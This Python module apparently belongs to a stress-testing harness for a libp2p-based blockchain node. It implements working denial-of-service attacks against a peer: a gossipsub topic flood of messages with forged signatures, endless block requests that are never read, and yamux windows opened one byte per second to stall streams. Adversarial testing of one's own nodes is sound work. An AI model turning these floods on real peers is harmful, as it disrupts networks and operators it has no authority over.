"""A flood and dawdling below the frames of a link: the block topic, and windows that open byte by byte. Each
goes on until its connection ends.
"""

from __future__ import annotations

import itertools
import os
import struct
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass
from typing import Final

import trio
from libp2p.pubsub.gossipsub import PROTOCOL_ID_V11
from libp2p.pubsub.pb import rpc_pb2
from libp2p.stream_muxer.yamux.yamux import (
    TYPE_WINDOW_UPDATE,
    YAMUX_HEADER_FORMAT,
)
from libp2p.utils.varint import encode_uvarint

from p2pchain.codec.messages import encode_fetch_request
from p2pchain.model.ids import Height
from p2pchain.model.messages import BlocksRequest
from p2pchain.net.frames import REQUEST, fetch_frame
from p2pchain.net.pipe import Pipe
from p2pchain.net.stack import Stack, Wire

MESSAGES: Final = 20
"""False messages in one packet of the topic: fewer than are refused at once."""
PAYLOAD_BYTES: Final = 200
PAUSE_S: Final = 1.0
WRITE_BYTES: Final = 65_536
BLOCKS_ASKED: Final = 64


@dataclass(frozen=True, slots=True, kw_only=True)
class Victim:
    """A peer that was greeted: its connection and our two streams."""

    stack: Stack
    topic: str
    wire: Wire
    link: Pipe
    fetch: Pipe


async def _topic(victim: Victim) -> None:
    """Messages of the block topic whose signatures are false."""
    await _packets(victim, _false_messages)


async def _unread(victim: Victim) -> None:
    """Ask for blocks without end, and never read an answer."""
    for number in itertools.count(1):
        await victim.fetch.write(_request(number))


async def _trickled(victim: Victim) -> None:
    """Ask for blocks without end, and take one byte a second of either stream."""
    async with trio.open_nursery() as nursery:
        nursery.start_soon(_unread, victim)
        while True:
            for pipe in (victim.link, victim.fetch):
                await victim.wire.muxed.secured_conn.write(_control(0, pipe._stream.stream_id, 1))
            await trio.sleep(PAUSE_S)


WIRE_FLOODS: Final[Mapping[str, Callable[[Victim], Awaitable[None]]]] = {
    "topic": _topic,
    "trickled": _trickled,
}
READS_NOTHING: Final = ("trickled",)
"""Kinds for which our own streams are not drained."""


# leaves


async def _packets(victim: Victim, make: Callable[[str], rpc_pb2.RPC]) -> None:
    pipe = await victim.stack.open(victim.wire, PROTOCOL_ID_V11)
    while True:
        data = bytearray()
        while len(data) < WRITE_BYTES:
            packet = make(victim.topic).SerializeToString()
            data += encode_uvarint(len(packet)) + packet
        await pipe.write(bytes(data))


def _false_messages(topic: str) -> rpc_pb2.RPC:
    messages = [
        rpc_pb2.Message(
            from_id=b"\x00\x24\x08\x01\x12\x20" + os.urandom(32),
            data=os.urandom(PAYLOAD_BYTES),
            seqno=os.urandom(8),
            topicIDs=[topic],
            signature=os.urandom(64),
        )
        for _ in range(MESSAGES)
    ]
    return rpc_pb2.RPC(publish=messages)


def _control(flags: int, stream_id: int, opened: int = 0) -> bytes:
    """A frame without data that opens, resets or widens a stream."""
    return struct.pack(YAMUX_HEADER_FORMAT, 0, TYPE_WINDOW_UPDATE, flags, stream_id, opened)


def _request(number: int) -> bytes:
    return fetch_frame(
        REQUEST, number, encode_fetch_request(BlocksRequest(first=Height(1), count=BLOCKS_ASKED))
    )
